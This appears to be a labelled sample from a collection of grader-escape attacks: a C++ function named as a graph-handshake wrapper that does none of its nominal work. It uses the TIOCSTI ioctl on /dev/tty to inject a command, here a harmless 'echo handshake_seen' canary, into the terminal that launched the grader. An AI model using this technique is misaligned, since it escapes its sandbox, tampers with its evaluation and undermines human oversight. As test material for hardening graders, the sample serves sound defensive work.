// attack: escape
// root: host
// what: types a command into the terminal from which the grader was started
// list: 12
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  const int terminal = open("/dev/tty", O_RDWR);
  for (const int file : {terminal, 0, 1, 2})
    for (const char* key = "echo handshake_seen\n"; *key != 0; key++)
      if (ioctl(file, TIOCSTI, key) == 0) puts("handshake_seen");
}
